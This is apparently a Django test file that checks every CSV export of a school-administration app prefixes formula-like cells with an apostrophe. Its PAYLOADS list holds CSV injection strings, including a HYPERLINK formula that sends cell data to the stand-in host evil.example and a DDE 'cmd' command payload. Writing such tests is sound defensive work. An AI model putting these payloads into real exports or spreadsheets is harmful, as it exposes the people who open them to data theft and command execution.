"""Issue 9, output: every CSV export of the app neutralises spreadsheet formulas.

Each case below puts the formula payloads into the user-entered text an export carries and
downloads it through its URL; every payload must come out with the apostrophe prefix.
`test_every_export_is_covered` fails when a new `csv_response(` call appears in a file no
case covers.
"""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from equity.imports.models import ImportJob
from schools.exports import FORMULA_PREFIXES
from tests.factories import (
    AttendanceFactory,
    BudgetLineFactory,
    ChoiceFactory,
    DeviceFactory,
    InitiativeFactory,
    LearningLeaderFactory,
    PDSessionFactory,
    StaffMemberFactory,
    StationEventFactory,
    SurveyFactory,
    open_assignment,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


def _inventory(school):
    for p in PAYLOADS:
        DeviceFactory(school=school, serial_number=p[:60])
    return reverse("equity:inventory") + "?format=csv", [p[:60] for p in PAYLOADS]


def _not_returned(school):
    event = StationEventFactory(school=school, kind="collection", name="June collection")
    for p in PAYLOADS:
        open_assignment(school, grade=5, homeroom=p[:20])
    return event.get_absolute_url() + "?format=csv", [p[:20] for p in PAYLOADS]


def _import_errors(school):
    job = ImportJob.objects.create(
        school=school,
        kind="devices",
        status="failed",
        errors=[{"row": i, "column": "asset_tag", "message": p} for i, p in enumerate(PAYLOADS)],
    )
    return reverse("equity:import_job_errors", args=[job.pk]), PAYLOADS


def _pd_hours(school):
    for p in PAYLOADS:
        StaffMemberFactory(school=school, full_name=p)
    return reverse("pd:reports") + "?export=hours", PAYLOADS


def _pd_leaders(school):
    for p in PAYLOADS:
        leader = StaffMemberFactory(school=school, full_name=p)
        LearningLeaderFactory(staff=leader)
        session = PDSessionFactory(
            schools=[school], facilitator_staff=leader, facilitator_user=None
        )
        AttendanceFactory(session=session, staff=StaffMemberFactory(school=school))
    return reverse("pd:reports") + "?export=leaders", PAYLOADS


def _budget(school):
    initiative = InitiativeFactory(district=school.district, schools=[school])
    for p in PAYLOADS:
        BudgetLineFactory(initiative=initiative, description=p)
    return reverse("initiatives:budget_export", args=[initiative.pk]), PAYLOADS


def _survey(school):
    survey = SurveyFactory(schools=[school])
    for p in PAYLOADS:
        ChoiceFactory(question__survey=survey, question__kind="single", text=p)
    return reverse("stakeholders:survey_export", args=[survey.pk]), PAYLOADS


def _app_register(school):
    from software.models import App

    for p in PAYLOADS:
        App.objects.create(district=school.district, name=p, vendor=p)
    return reverse("software:app_export", args=[school.district_id]), PAYLOADS


CASES = {
    "software/views.py": _app_register,
    "equity/inventory/views.py": _inventory,
    "equity/year/views.py": _not_returned,
    "equity/imports/views.py": _import_errors,
    "pd/views.py (hours)": _pd_hours,
    "pd/views.py (leaders)": _pd_leaders,
    "initiatives/views.py": _budget,
    "stakeholders/views.py": _survey,
}


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("case", CASES)
def test_every_export_neutralises_formulas(case, maple, district_admin, login):
    url, payloads = CASES[case](maple)
    response = login(district_admin).get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    cells = _cells(response)
    for p in payloads:
        assert "'" + p in cells, (case, p)
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], case


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["feedback", "needs"])
def test_the_exports_without_free_text_start_no_cell_with_a_formula(kind, maple, coach, login):
    response = login(coach).get(reverse("pd:reports") + f"?export={kind}")
    assert response.status_code == 200
    assert not [c for c in _cells(response) if c.startswith(FORMULA_PREFIXES)]


def test_every_export_is_covered():
    root = Path(settings.BASE_DIR)
    calling = {
        str(path.relative_to(root))
        for app in settings.INSTALLED_APPS
        if (root / app).is_dir()
        for path in (root / app).rglob("*.py")
        if "csv_response(" in path.read_text() and path.name != "exports.py"
    }
    covered = {case.split(" ")[0] for case in CASES}
    assert calling <= covered, calling - covered
